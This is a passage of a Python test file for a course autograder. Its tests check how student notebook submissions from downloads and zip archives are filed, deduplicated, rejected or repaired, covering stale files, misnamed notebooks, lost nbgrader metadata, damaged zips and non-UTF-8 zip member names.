        os.utime(download / "zoe" / name, (1_700_000_000, 1_700_000_000))
    report = collect(course, download)
    assert sorted(r.file for r in report.rejected) == sorted(f"zoe/{n}" for n in names if "Copy10" not in n)
    assert submitted(course, "zoe") == {"02-shapes-and-loss.ipynb": notebook_bytes("02-shapes-and-loss-Copy10.ipynb")}


def test_a_later_download_adds_to_the_hand_in_and_keeps_what_it_lacks(course, tmp_path):
    """A late download holding one notebook must not drop the student's other notebooks (and their grades)."""
    first = write_tree(tmp_path / "first", {"hana/00-vectors-shapes-and-gradients.ipynb": notebook_bytes("00 v1"),
                                            "hana/02-shapes-and-loss.ipynb": notebook_bytes("02 v1")})
    os.utime(first / "hana/00-vectors-shapes-and-gradients.ipynb", (1_700_000_000, 1_700_000_000))
    os.utime(first / "hana/02-shapes-and-loss.ipynb", (1_700_000_000, 1_700_000_000))
    collect(course, first)
    late = write_tree(tmp_path / "late", {"hana/02-shapes-and-loss.ipynb": notebook_bytes("02 v2")})
    os.utime(late / "hana/02-shapes-and-loss.ipynb", (1_800_000_000, 1_800_000_000))
    rec = collect(course, late).students["hana"]
    assert rec.status == "updated" and rec.missing == []
    assert submitted(course, "hana") == {"00-vectors-shapes-and-gradients.ipynb": notebook_bytes("00 v1"),
                                         "02-shapes-and-loss.ipynb": notebook_bytes("02 v2")}
    assert rec.notebooks == {"00-vectors-shapes-and-gradients": "hana/00-vectors-shapes-and-gradients.ipynb",
                             "02-shapes-and-loss": "hana/02-shapes-and-loss.ipynb"}
    assert "kept from the earlier hand-in: 00-vectors-shapes-and-gradients" in rec.notes
    assert rec.timestamp.startswith("2027-01-15")  # the latest file's time: 1.8e9 s
    assert (Path(rec.replaced) / "02-shapes-and-loss.ipynb").read_bytes() == notebook_bytes("02 v1")
    pdf = write_tree(tmp_path / "pdf", {"hana/answers.pdf": b"%PDF-1.4"})
    again = collect(course, pdf).students["hana"]  # only a rejected file: the hand-in stands
    assert again.status == "unchanged" and again.missing == [] and again.replaced is None
    assert sorted(again.notebooks) == ["00-vectors-shapes-and-gradients", "02-shapes-and-loss"]
    saved = json.loads((course.reports_dir / "collect.json").read_text())["students"]["hana"]
    assert saved["missing"] == [] and saved["status"] == "unchanged"


def test_an_older_download_collected_after_a_newer_one_does_not_put_the_older_file_back(course, tmp_path):
    """Collecting the first download again used to refile alice's older notebook over her later one, keep the
    later hand-in time, and make feedback say she handed in again."""
    def download(name: str, files: dict[str, bytes], when: int) -> Path:
        root = write_tree(tmp_path / name, files)
        for path in root.rglob("*.ipynb"):
            os.utime(path, (when, when))
        return root

    first = download("first", {"alice/02-shapes-and-loss.ipynb": notebook_bytes("v1"),
                               "alice/00-vectors-shapes-and-gradients.ipynb": notebook_bytes("00")}, 1_800_000_000)
    second = download("second", {"alice/Copy of 02-shapes-and-loss.ipynb": notebook_bytes("v2")}, 1_800_400_000)
    collect(course, first)
    assert collect(course, second).students["alice"].status == "updated"
    stamp = stamp_of(course, "alice")
    again = collect(course, first)
    rec = again.students["alice"]
    assert rec.status == "unchanged" and rec.replaced is None
    assert submitted(course, "alice") == {"02-shapes-and-loss.ipynb": notebook_bytes("v2"),
                                          "00-vectors-shapes-and-gradients.ipynb": notebook_bytes("00")}
    assert stamp_of(course, "alice") == stamp
    # v1 is the very file collected first and replaced since: nothing to look at again, so not called rejected
    assert again.rejected == []
    (seen,) = [r for r in again.ignored if r.student == "alice"]
    assert seen.file == "alice/02-shapes-and-loss.ipynb" and seen.reason.startswith(
        "collected before and since replaced by a newer 02-shapes-and-loss.ipynb (2027-01-19 23:06 UTC, which stays "
        f"filed); this file is kept in {course.replaced_dir / 'alice'}"), seen
    assert seen.reason.endswith("; to file it again, collect with --replace-older"), seen
    # an older file never collected is rejected, with how to file it after all
    stale = download("stale", {"alice/02-shapes-and-loss.ipynb": notebook_bytes("v0")}, 1_800_000_000)
    (older,) = [r for r in collect(course, stale).rejected if r.student == "alice"]
    assert older.file == "alice/02-shapes-and-loss.ipynb"
    assert older.reason.startswith("older (2027-01-15 08:00 UTC) than the 02-shapes-and-loss.ipynb collected before "
                                   "(2027-01-19 23:06 UTC), which stays filed; to file this one instead, collect again with "
                                   "--replace-older"), older
    assert Path(older.copy).read_bytes() == notebook_bytes("v0")  # kept, as any file not filed is
    # the same file read with an earlier time (collected again with TZ set, say) is filed, and its time corrected
    shifted = download("shifted", {"alice/Copy of 02-shapes-and-loss.ipynb": notebook_bytes("v2")}, 1_800_300_000)
    assert collect(course, shifted).rejected == []
    assert stamp_of(course, "alice").startswith("2027-01-18 19:20")
    # as the message says: --replace-older files the older one, with its own time (found by review)
    assert collect(course, first, replace_older=True).students["alice"].status == "updated"
    assert submitted(course, "alice")["02-shapes-and-loss.ipynb"] == notebook_bytes("v1")
    assert stamp_of(course, "alice").startswith("2027-01-15 08:00"), "the replaced file's later time stayed"
    newer = download("third", {"alice/02-shapes-and-loss.ipynb": notebook_bytes("v3")}, 1_800_500_000)
    assert collect(course, newer).students["alice"].status == "updated"
    assert submitted(course, "alice")["02-shapes-and-loss.ipynb"] == notebook_bytes("v3")


def test_a_student_who_handed_in_only_a_jupyter_checkpoint_gets_a_row_saying_so(course, tmp_path):
    """Their only file was a system file, ignored without a student: they had no row at all (found by review)."""
    download = write_tree(tmp_path / "d", {
        "u14/.ipynb_checkpoints/02-shapes-and-loss-checkpoint.ipynb": notebook_bytes("checkpoint"),
        "ann/02-shapes-and-loss.ipynb": notebook_bytes("ann"), "ann/.DS_Store": b"\0",
        "__MACOSX/ann/._02-shapes-and-loss.ipynb": b"\0\5\26\7",
    })
    report = collect(course, download)
    assert sorted(report.students) == ["ann", "u14"]  # no student named __MACOSX
    u14 = report.students["u14"]
    assert u14.status == "no valid notebook" and u14.notebooks == {}
    assert u14.notes == ["u14/.ipynb_checkpoints/02-shapes-and-loss-checkpoint.ipynb: system file (OS or Jupyter "
                         "metadata)"], u14.notes
    assert report.students["ann"].status == "new" and report.students["ann"].notes == []
    saved = json.loads((course.reports_dir / "collect.json").read_text())["students"]
    assert saved["u14"]["status"] == "no valid notebook"
    # no other system file names a student: not a wrapping folder, an old/ folder or code/ (found by review)
    junk = write_tree(tmp_path / "junk", {
        "cy/02-shapes-and-loss.ipynb": notebook_bytes("cy"), "dee/02-shapes-and-loss.ipynb": notebook_bytes("dee"),
        "old/.DS_Store": b"\0", "code/part-ii/__pycache__/x.pyc": b"\0",
        "code/.ipynb_checkpoints/02-shapes-and-loss-checkpoint.ipynb": notebook_bytes("code")})
    assert sorted(collect(course, junk).students) == ["cy", "dee"]
    wrapped = write_tree(tmp_path / "wrapped", {
        "submissions/eve/.ipynb_checkpoints/02-shapes-and-loss-checkpoint.ipynb": notebook_bytes("eve"),
        "submissions/fay/.ipynb_checkpoints/02-shapes-and-loss-checkpoint.ipynb": notebook_bytes("fay")})
    with pytest.raises(AutograderError, match="found no student files"):
        collect(course, wrapped)


def test_a_byte_order_mark_and_copy_names_are_filed_for_the_right_student(course, tmp_path):
    """Notepad's UTF-8 BOM; Colab's 'Copy of NAME' and a student's 'NAME-final', flat and in Canvas names."""
    plain = notebook_bytes("bom")
    download = write_tree(tmp_path / "d", {
        "ivy/02-shapes-and-loss.ipynb": b"\xef\xbb\xbf" + plain,
        "leeamy_20003_55504_Copy_of_02-shapes-and-loss.ipynb": notebook_bytes("lee"),
        "dave_02-shapes-and-loss-final.ipynb": notebook_bytes("dave"),
        "Copy of 02-shapes-and-loss.ipynb": notebook_bytes("whose?"),
    })
    report = collect(course, download)
    assert sorted(report.students) == ["dave", "ivy", "leeamy"]
    assert nbformat.reads(submitted(course, "ivy")["02-shapes-and-loss.ipynb"].decode(), 4).cells[0].source == "# bom"
    assert any("byte-order mark removed" in n for n in report.students["ivy"].notes)
    assert submitted(course, "leeamy") == {"02-shapes-and-loss.ipynb": notebook_bytes("lee")}
    assert submitted(course, "dave") == {"02-shapes-and-loss.ipynb": notebook_bytes("dave")}
    reasons = {r.file: r.reason for r in report.rejected}
    assert reasons == {"Copy of 02-shapes-and-loss.ipynb": reasons["Copy of 02-shapes-and-loss.ipynb"]}
    assert reasons["Copy of 02-shapes-and-loss.ipynb"].startswith("cannot tell whose file")


@pytest.mark.parametrize("as_zip", [False, True])
def test_oversized_files_keep_their_student_and_a_copy_and_big_outputs_are_dropped(course, tmp_path, monkeypatch, as_zip):
    import autograder.collect as collect_module

    monkeypatch.setattr(collect_module, "MAX_NOTEBOOK_BYTES", 4000)
    monkeypatch.setattr(collect_module, "MAX_READ_BYTES", 40_000)
    chatty = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('x' * 9000)", id="loud")])
    chatty.cells[0].outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * 9000)]
    long_source = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("y" * 9000, id="essay")])
    files = {"Eve Adams_10005_assignsubmission_file_/02-shapes-and-loss.ipynb": nbformat.writes(chatty).encode(),
             "Eve Adams_10005_assignsubmission_file_/00-vectors-shapes-and-gradients.ipynb":
                 nbformat.writes(long_source).encode(),
             "Fay Li_10006_assignsubmission_file_/02-shapes-and-loss.ipynb": b"{" + b" " * 50_000 + b"}"}
    download = write_tree(tmp_path / "d", files)
    if as_zip:
        zpath = tmp_path / "d.zip"
        with zipfile.ZipFile(zpath, "w") as zf:
            for rel in files:
                zf.write(download / rel, rel)
        download = zpath
    report = collect(course, download)
    eve = report.students["10005"]
    assert eve.status == "new" and list(eve.notebooks) == ["02-shapes-and-loss"]
    filed = nbformat.reads(submitted(course, "10005")["02-shapes-and-loss.ipynb"].decode(), 4)
    assert filed.cells[0].outputs == [] and filed.cells[0].source == "print('x' * 9000)"
    assert any("outputs removed" in n for n in eve.notes)
    reasons = {r.file: (r.reason, r.student, r.copy) for r in report.rejected}
    reason, who, copy = reasons["Eve Adams_10005_assignsubmission_file_/00-vectors-shapes-and-gradients.ipynb"]
    assert who == "10005" and "without its outputs" in reason
    reason, who, copy = reasons["Fay Li_10006_assignsubmission_file_/02-shapes-and-loss.ipynb"]
    assert who == "10006" and reason.startswith("too large to open")
    assert report.students["10006"].status == "no valid notebook"
    assert Path(copy).read_bytes() == files["Fay Li_10006_assignsubmission_file_/02-shapes-and-loss.ipynb"]  # streamed


def test_an_oversized_zip_member_that_is_damaged_is_rejected_for_its_student_without_a_half_copy(course, tmp_path,
                                                                                                    monkeypatch):
    """A member too large to read is only streamed when its copy is kept: a bad CRC found then leaves no copy."""
    import autograder.collect as collect_module

    monkeypatch.setattr(collect_module, "MAX_READ_BYTES", 40_000)
    big = b"{" + b" " * 50_000 + b"}"
    name = "Fay Li_10006_assignsubmission_file_/02-shapes-and-loss.ipynb"
    zpath = tmp_path / "d.zip"
    with zipfile.ZipFile(zpath, "w", compression=zipfile.ZIP_STORED) as zf:
        zf.writestr(name, big)
    data = bytearray(zpath.read_bytes())
    at = data.index(big)  # stored: the member's bytes lie in the file as they are
    data[at + 25_000] = ord("x")  # a flipped byte in transit: zipfile finds the bad CRC at the member's end
    zpath.write_bytes(bytes(data))
    report = collect(course, zpath)
    reasons = {r.file: (r.reason, r.student, r.copy) for r in report.rejected}
    reason, who, copy = reasons[name]
    assert who == "10006" and reason.startswith("too large to open"), reason
    assert "; no copy kept: it is damaged (Bad CRC-32" in reason and reason.endswith("download it again"), reason
    assert copy is None and not list(course.rejected_dir.rglob("*.ipynb"))  # no truncated file passed off as a copy
    assert report.students["10006"].status == "no valid notebook"


def write_answer_and_test_release(release: Path, *extra) -> nbformat.NotebookNode:
    """Write a released notebook of an answer cell (id 'answer', grade id ex_a) and a 2-point test cell (id 'test',
    grade id test_a), then the extra cells, at release; return it."""
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("raise NotImplementedError()", id="answer"),
                                         nbformat.v4.new_code_cell("assert True", id="test"), *extra])
    nb.cells[0].metadata["nbgrader"] = {"grade": False, "solution": True, "locked": False, "grade_id": "ex_a",
                                        "schema_version": 3}
    nb.cells[1].metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 2,
                                        "grade_id": "test_a", "schema_version": 3}
    nbformat.write(nb, release)
    return nb


def test_nbgrader_metadata_an_editor_dropped_is_put_back_from_the_release_by_cell_id(course, tmp_path):
    """Answer cells without their nbgrader metadata are not found by nbgrader (the notebook scores 0)."""
    import copy

    from autograder.worker import lost_cells_reason

    release = course.release_dir / "02-shapes-and-loss.ipynb"
    nb = write_answer_and_test_release(release, nbformat.v4.new_markdown_cell("notes", id="plain"))
    stripped = copy.deepcopy(nb)
    stripped.cells[0].source = "x = 1  # my answer"
    for cell in stripped.cells:
        cell.metadata.pop("nbgrader", None)
    own = copy.deepcopy(stripped)
    own.cells[0].metadata["nbgrader"] = {"grade": False, "solution": True, "grade_id": "mine"}  # left alone
    download = write_tree(tmp_path / "d", {"kim/02-shapes-and-loss.ipynb": nbformat.writes(stripped).encode(),
                                           "lou/02-shapes-and-loss.ipynb": nbformat.writes(own).encode()})
    report = collect(course, download)
    filed = nbformat.reads(submitted(course, "kim")["02-shapes-and-loss.ipynb"].decode(), 4)
    assert [c.metadata.get("nbgrader") for c in filed.cells] == [c.metadata.get("nbgrader") for c in nb.cells]
    assert filed.cells[0].source == "x = 1  # my answer"
    assert any("nbgrader metadata of 2 cells put back from the release" in n for n in report.students["kim"].notes)
    lou = nbformat.reads(submitted(course, "lou")["02-shapes-and-loss.ipynb"].decode(), 4)
    assert lou.cells[0].metadata["nbgrader"]["grade_id"] == "mine" and lou.cells[1].metadata["nbgrader"]["grade_id"] == "test_a"
    with course.gradebook() as gb:  # the worker's check for lost answer cells, on the gradebook's assignment
        gb.update_or_create_assignment("part-ii")
        gb.update_or_create_notebook("02-shapes-and-loss", "part-ii")
        gb.update_or_create_solution_cell("ex_a", "02-shapes-and-loss", "part-ii")
    job = {"course_root": str(course.root), "student": "kim", "db_url": course.db_url, "course_id": course.course_id}
    assert lost_cells_reason(job, "02-shapes-and-loss") is None
    assert "lacks 1 of its 1 answer cells (ex_a)" in lost_cells_reason({**job, "student": "lou"}, "02-shapes-and-loss")


def test_nbgrader_metadata_dropped_with_the_cell_ids_is_put_back_by_source_and_order(course, tmp_path):
    """An editor that keeps no cell ids (nbformat 4.4 or older, as older Jupyter and some other editors write) and
    drops nbgrader's metadata left collect nothing to match by: the notebook scored 0 "lacking" every answer cell it
    held (found by review). Unchanged cells are matched by their source, an answer by its place between them, or by
    the function its stub defines when the student added cells beside it; a cell two ways ambiguous is left alone."""
    import copy

    def meta(grade_id, kind, points=0):
        return {"grade": kind != "answer", "solution": kind in ("answer", "written"), "locked": kind in ("test", "given"),
                "grade_id": grade_id, "schema_version": 3, **({"points": points} if kind in ("test", "written") else {})}

    v4 = nbformat.v4
    cells = [v4.new_markdown_cell("# 02"), v4.new_code_cell("import numpy as np"),
             v4.new_code_cell("def softmax_a(z):\n    # YOUR CODE HERE\n    raise NotImplementedError()"),
             v4.new_code_cell("print(softmax_a([1.0]))"), v4.new_code_cell("assert softmax_a([0.0]) == [1.0]"),
             v4.new_markdown_cell("### 2.2 written"), v4.new_markdown_cell("YOUR ANSWER HERE"),
             v4.new_code_cell("def loss_b(p):\n    # YOUR CODE HERE\n    raise NotImplementedError()"),
             v4.new_code_cell("assert loss_b(1.0) == 0.0")]
    kinds = {2: ("ex_a", "answer"), 4: ("test_a", "test", 2), 6: ("written_b", "written", 1), 7: ("ex_b", "answer"),
             8: ("test_b", "test", 1), 1: ("setup", "given")}
    for i, args in kinds.items():
        cells[i].metadata["nbgrader"] = meta(*args)
    release = v4.new_notebook(cells=cells)
    nbformat.write(release, course.release_dir / "02-shapes-and-loss.ipynb")

    def handed_in(edit):
        nb = copy.deepcopy(release)
        nb.nbformat_minor = 4
        edit(nb.cells)
        for cell in nb.cells:
            cell.pop("id", None)
            cell.metadata.pop("nbgrader", None)
        return nbformat.writes(nb, version=4).encode()

    def answered(cells):
        cells[2].source = "def softmax_a(z):\n    return [1.0]"
        cells[6].source = "因为……"
        cells[7].source = "def loss_b(p):\n    return 0.0"

    def scratch(cells):  # a cell of the student's own beside answer b, which names its function too
        answered(cells)
        cells.insert(8, v4.new_code_cell("loss_b(0.5)  # trying it"))

    def twice(cells):  # two definitions of loss_b beside each other: which one is the answer cannot be told
        answered(cells)
        cells.insert(8, v4.new_code_cell("def loss_b(p):\n    return 1.0"))

    deleted = copy.deepcopy(release)  # metadata kept, answer b deleted and a cell of the student's in its place
    deleted.cells[7] = v4.new_code_cell("print('my own cell')")
    download = write_tree(tmp_path / "d", {"kim/02-shapes-and-loss.ipynb": handed_in(answered),
                                           "lou/02-shapes-and-loss.ipynb": handed_in(scratch),
                                           "max/02-shapes-and-loss.ipynb": handed_in(twice),
                                           "ned/02-shapes-and-loss.ipynb": nbformat.writes(deleted).encode()})
    report = collect(course, download)
    ids = {}
    for student in ("kim", "lou", "max", "ned"):
        filed = nbformat.reads(submitted(course, student)["02-shapes-and-loss.ipynb"].decode(), 4)
        ids[student] = [c.metadata.get("nbgrader", {}).get("grade_id") for c in filed.cells]
    release_ids = [c.metadata.get("nbgrader", {}).get("grade_id") for c in cells]
    assert ids["kim"] == release_ids, ids
    assert ids["lou"] == release_ids[:8] + [None] + release_ids[8:], ids
    assert ids["max"] == release_ids[:7] + [None, None, "test_b"], ids  # answer b left alone, the rest put back
    assert ids["ned"] == release_ids[:7] + [None, "test_b"], ids  # a deleted answer is not found in another cell
    filed = nbformat.reads(submitted(course, "kim")["02-shapes-and-loss.ipynb"].decode(), 4)
    assert filed.cells[2].source == "def softmax_a(z):\n    return [1.0]" and filed.cells[6].source == "因为……"
    assert filed.cells[4].metadata["nbgrader"] == cells[4].metadata["nbgrader"]
    assert any("nbgrader metadata of 6 cells put back from the release (the editor dropped it and the cell ids; "
               "matched by source and order)" in n for n in report.students["kim"].notes), report.students["kim"].notes


def graded_notebook(cells: list[tuple[str, str]]) -> nbformat.NotebookNode:
    """A notebook of (grade id, kind) cells, kind 'answer' or 'test', with nbgrader metadata as a release has it."""
    nb = nbformat.v4.new_notebook()
    for grade_id, kind in cells:
        cell = nbformat.v4.new_code_cell("pass", id=grade_id)
        answer = kind == "answer"
        cell.metadata["nbgrader"] = {"grade": not answer, "solution": answer, "locked": not answer,
                                     "grade_id": grade_id, "schema_version": 3, **({} if answer else {"points": 1})}
        nb.cells.append(cell)
    return nb


def test_a_notebook_saved_under_a_sibling_s_name_is_filed_as_the_one_it_holds_and_its_page_says_so(course, tmp_path,
                                                                                                     capsys):
    from autograder.collect import load_collect_log, print_report
    from autograder.feedback import not_graded_reasons

    releases = {"00-vectors-shapes-and-gradients": graded_notebook([("ex_shape", "answer"), ("test_shape", "test")]),
                "02-shapes-and-loss": graded_notebook([("ex_softmax", "answer"), ("test_softmax", "test")])}
    for name, nb in releases.items():
        nbformat.write(nb, course.release_dir / f"{name}.ipynb")
    holds_02 = nbformat.writes(releases["02-shapes-and-loss"]).encode()
    own_02 = nbformat.writes(graded_notebook([("ex_softmax", "answer"), ("test_softmax", "test"), ("mine", "answer")])).encode()
    download = write_tree(tmp_path / "d", {
        "ann/00-vectors-shapes-and-gradients.ipynb": holds_02,         # 02's work under 00's name
        "bo/00-vectors-shapes-and-gradients.ipynb": holds_02,          # the same, and 02 handed in too
        "bo/02-shapes-and-loss.ipynb": own_02,
        "cy/00-vectors-shapes-and-gradients.ipynb": notebook_bytes("no graded cells at all"),
    })
    os.utime(download / "bo/00-vectors-shapes-and-gradients.ipynb", (2e9, 2e9))  # the newer one: still not kept
    report = collect(course, download)

    assert submitted(course, "ann") == {"02-shapes-and-loss.ipynb": holds_02}
    assert report.students["ann"].missing == ["00-vectors-shapes-and-gradients"]
    assert report.students["ann"].moved == {"ann/00-vectors-shapes-and-gradients.ipynb": "02-shapes-and-loss"}
    assert any("holds the exercises of 02-shapes-and-loss and none of 00-vectors-shapes-and-gradients's: filed as "
               "02-shapes-and-loss.ipynb" in n for n in report.students["ann"].notes)
    assert submitted(course, "bo") == {"02-shapes-and-loss.ipynb": own_02}
    duplicate = {r.file: r.reason for r in report.rejected}["bo/00-vectors-shapes-and-gradients.ipynb"]
    assert duplicate.startswith("duplicate: bo handed in 02-shapes-and-loss.ipynb more than once; kept "
                                "bo/02-shapes-and-loss.ipynb, the file named after it"), duplicate
    assert set(submitted(course, "cy")) == {"00-vectors-shapes-and-gradients.ipynb"}, "no exercises at all: kept by name"

    print_report(report)
    assert "ann/00-vectors-shapes-and-gradients.ipynb -> 02-shapes-and-loss.ipynb" in capsys.readouterr().out
    reasons = not_graded_reasons("ann", list(releases), load_collect_log(course), None)
    assert reasons == {"00-vectors-shapes-and-gradients": (
        "Your file ann/00-vectors-shapes-and-gradients.ipynb holds the exercises of 02-shapes-and-loss, not of "
        "00-vectors-shapes-and-gradients, so it was graded as 02-shapes-and-loss. No file you handed in held the "
        "exercises of 00-vectors-shapes-and-gradients, so it scored 0.")}
    from autograder.export import student_notes  # grades.csv said only 'missing 00-...' (found by review)

    _, notes = student_notes("ann", load_collect_log(course), None)
    assert notes[:2] == ["ann/00-vectors-shapes-and-gradients.ipynb filed as 02-shapes-and-loss.ipynb: it holds that "
                         "notebook's exercises", "missing 00-vectors-shapes-and-gradients.ipynb (scored 0)"], notes



def test_a_file_filed_as_another_notebook_is_named_in_grades_csv_until_a_newer_file_replaces_it(course, tmp_path):
    """The note used to be only in the student's latest collect record: handing in another notebook dropped it."""
    from autograder.collect import load_collect_log
    from autograder.export import student_notes

    releases = {"00-vectors-shapes-and-gradients": graded_notebook([("ex_shape", "answer"), ("test_shape", "test")]),
                "02-shapes-and-loss": graded_notebook([("ex_softmax", "answer"), ("test_softmax", "test")])}
    for name, nb in releases.items():
        nbformat.write(nb, course.release_dir / f"{name}.ipynb")
    holds = {name: nbformat.writes(nb).encode() for name, nb in releases.items()}
    note = "ann/00-vectors-shapes-and-gradients.ipynb filed as 02-shapes-and-loss.ipynb: it holds that notebook's exercises"

    def notes_after(files: dict[str, bytes], when: float) -> list[str]:
        download = write_tree(tmp_path / f"d{when:.0f}", files)
        for path in files:
            os.utime(download / path, (when, when))
        report = collect(course, download)
        return student_notes("ann", load_collect_log(course), None)[1], report

    notes, _ = notes_after({"ann/00-vectors-shapes-and-gradients.ipynb": holds["02-shapes-and-loss"]}, 1.7e9)
    assert note in notes, notes
    notes, report = notes_after({"ann/00-vectors-shapes-and-gradients.ipynb": holds["00-vectors-shapes-and-gradients"]},
                                1.8e9)
    assert submitted(course, "ann") == {f"{k}.ipynb": v for k, v in holds.items()}, "02 is still the earlier file, 00 the new one"
    assert report.students["ann"].moved == {}, "nothing was moved by this collect"
    assert note in notes, notes
    notes, _ = notes_after({"ann/02-shapes-and-loss.ipynb": holds["02-shapes-and-loss"] + b"\n"}, 1.9e9)
    assert not any("filed as" in n for n in notes), notes


def zip_with_raw_names(path: Path, members: dict[bytes, bytes], extra: dict[bytes, bytes] | None = None) -> Path:
    """A zip whose member names are the given bytes, not flagged UTF-8 (as Windows' zipper writes its code page)."""
    placeholders = {raw: chr(ord("A") + i) * len(raw) for i, raw in enumerate(members)}
    with zipfile.ZipFile(path, "w") as zf:
        for raw, data in members.items():
            info = zipfile.ZipInfo(placeholders[raw], date_time=(2026, 3, 1, 10, 0, 0))
            info.extra = (extra or {}).get(raw, b"")
            zf.writestr(info, data)
    blob = path.read_bytes()
    for raw, placeholder in placeholders.items():
        assert blob.count(placeholder.encode()) == 2, "the placeholder must appear once in each header"
        blob = blob.replace(placeholder.encode(), raw)
    path.write_bytes(blob)
    return path


def test_zip_names_in_the_windows_chinese_code_page_or_unflagged_utf8_keep_their_students_apart(course, tmp_path):
    """Explorer's "Compressed folder" on a Chinese Windows writes GBK names without the UTF-8 flag; zipfile reads them
    as IBM 437, which turned 李四, 李娜 and 李强 into one mojibake student and rejected two as duplicates."""
    names = {"李四": "gbk", "李娜": "gbk", "李强": "gbk", "王五": "utf-8"}
    members = {f"{who}/02-shapes-and-loss.ipynb".encode(enc): notebook_bytes(who) for who, enc in names.items()}
    unicode_field = "赵六/02-shapes-and-loss.ipynb".encode()  # a name only its Info-ZIP Unicode Path field gives right
    stored = "zhao6/02-shapes-and-loss.ipynb".encode()
    members[stored] = notebook_bytes("赵六")
    field = struct.pack("<BI", 1, zlib.crc32(stored)) + unicode_field
    extra = {stored: struct.pack("<HH", 0x7075, len(field)) + field}
    report = collect(course, zip_with_raw_names(tmp_path / "class.zip", members, extra))
    assert sorted(report.students) == sorted([*names, "赵六"]), sorted(report.students)
    assert not report.rejected, report.rejected
    for who in [*names, "赵六"]:
        assert submitted(course, who) == {"02-shapes-and-loss.ipynb": notebook_bytes(who)}


def test_a_student_who_hands_back_the_whole_unpacked_download_is_one_student(course, tmp_path):
    """The student zip unpacks to part-ii/ with the notebooks, code/, data/, README.md, requirements.txt and
    constraints.txt: zipped back whole inside the student's folder, code/ and data/ are the course's folders, not two
    more students, and the unchanged files are passed over, not rejected."""
    bundle = course.bundle_dir
    listing = f"{'0' * 64}  code/part-ii/probability_practice.py\n".encode()
    write_tree(bundle, {"code/part-ii/probability_practice.py": b"# the reference\n", "data/part-ii/cases.json": b"{}\n",
                        "README.md": "# 学生版\n".encode(), "requirements.txt": b"numpy==2.4.6\n",
                        "constraints.txt": b"anyio==4.16.0\n",
                        "course-files.sha256": listing})
    download = write_tree(tmp_path / "d", {
        "olga/part-ii/02-shapes-and-loss.ipynb": notebook_bytes("olga 02"),
        "olga/part-ii/README.md": "# 学生版\n".encode(),
        "olga/part-ii/course-files.sha256": listing,
        "olga/part-ii/requirements.txt": b"numpy==2.4.6\n",
        "olga/part-ii/constraints.txt": b"anyio==4.16.0\n",
        "olga/part-ii/code/part-ii/probability_practice.py": b"# the reference\n",
        "olga/part-ii/data/part-ii/cases.json": b"{}\n"})
    report = collect(course, download)
    assert sorted(report.students) == ["olga"], report
    assert report.students["olga"].notebooks == {"02-shapes-and-loss": "olga/part-ii/02-shapes-and-loss.ipynb"}
    assert submitted(course, "olga") == {"02-shapes-and-loss.ipynb": notebook_bytes("olga 02")}
    assert not report.rejected and {r.reason for r in report.ignored} == {
        "unchanged copy of the released course file code/part-ii/probability_practice.py",
        "unchanged copy of the released course file data/part-ii/cases.json",
        "unchanged copy of the released course file README.md",
        "unchanged copy of the released course file requirements.txt",
        "unchanged copy of the released course file constraints.txt",
        "unchanged copy of the released course file course-files.sha256"}, (report.rejected, report.ignored)
    # a release with a due date rewrites README.md, one with new course files the list of their digests: an earlier
    # one handed back is still a course file, not a reject
    (bundle / "README.md").write_text("# 学生版\n截止时间：……\n", encoding="utf-8")
    (bundle / "course-files.sha256").write_bytes(listing.replace(b"0" * 64, b"1" * 64))
    (bundle / "constraints.txt").write_bytes(b"anyio==4.17.0\n")  # a release after the lock was renewed
    (download / "olga/part-ii/02-shapes-and-loss.ipynb").write_bytes(notebook_bytes("olga 02, again"))
    report = collect(course, download)
    assert not report.rejected, report.rejected
    assert [r.reason for r in report.ignored if r.file == "olga/part-ii/README.md"] == [
        "the student release's README.md (from another release, or edited): a course file, not a submission"]
    assert [r.reason for r in report.ignored if r.file == "olga/part-ii/course-files.sha256"] == [
        "the student release's course-files.sha256 (from another release, or edited): a course file, not a submission"]
    assert [r.reason for r in report.ignored if r.file == "olga/part-ii/constraints.txt"] == [
        "the student release's constraints.txt (from another release, or edited): a course file, not a submission"]


def test_a_notebook_under_a_name_of_its_own_is_filed_by_its_exercises_and_other_rejects_reach_the_student(course, tmp_path):
    from autograder.collect import load_collect_log
    from autograder.feedback import not_graded_reasons

    releases = {"00-vectors-shapes-and-gradients": graded_notebook([("ex_shape", "answer"), ("test_shape", "test")]),
                "02-shapes-and-loss": graded_notebook([("ex_softmax", "answer"), ("test_softmax", "test")])}
    for name, nb in releases.items():
        nbformat.write(nb, course.release_dir / f"{name}.ipynb")
    holds_02 = nbformat.writes(releases["02-shapes-and-loss"]).encode()
    download = write_tree(tmp_path / "d", {"bob/02-mywork.ipynb": holds_02, "bob/scratch.ipynb": notebook_bytes("mine"),
                                           "bob/notes.txt": b"to do", "02-mine.ipynb": holds_02})
    report = collect(course, download)
    assert submitted(course, "bob") == {"02-shapes-and-loss.ipynb": holds_02}
    assert "bob/02-mywork.ipynb: named 02-mywork.ipynb, but it holds the exercises of 02-shapes-and-loss: filed as " \
           "02-shapes-and-loss.ipynb" in report.students["bob"].notes
    rejected = {r.file: (r.student, r.reason) for r in report.rejected}
    assert rejected["bob/scratch.ipynb"][0] == "bob" and rejected["bob/scratch.ipynb"][1].startswith("wrong name: not a notebook")
    assert rejected["02-mine.ipynb"][0] is None, "whose it is cannot be told, whatever it holds"
    reasons = not_graded_reasons("bob", list(releases), load_collect_log(course), None)
    assert list(reasons) == ["00-vectors-shapes-and-gradients"]
    page = reasons["00-vectors-shapes-and-gradients"]
    assert page.startswith("Not handed in: your hand-in has no notebook named 00-vectors-shapes-and-gradients.ipynb")
    assert "Files you handed in that were not accepted: bob/notes.txt (" in page and "bob/scratch.ipynb (wrong name" in page


def test_a_file_named_on_its_own_is_the_student_its_name_starts_with_when_that_id_is_known(course, tmp_path):
    """1011_mywork.ipynb gives no notebook; its student is 1011 when the gradebook or another file names 1011."""
    with course.gradebook() as gb:
        gb.update_or_create_student("1012")  # a roster loaded before any collect
    download = write_tree(tmp_path / "flat", {
        "1011_02-shapes-and-loss.ipynb": notebook_bytes("1011 02"),
        "1011_mywork.ipynb": notebook_bytes("1011 mine"),
        "1012_mywork.ipynb": notebook_bytes("1012 mine"),
        "1013_mywork.ipynb": notebook_bytes("1013 mine"),
        "my_homework.ipynb": notebook_bytes("whose?"),
    })
    report = collect(course, download)
    owners = {r.file: r.student for r in report.rejected}
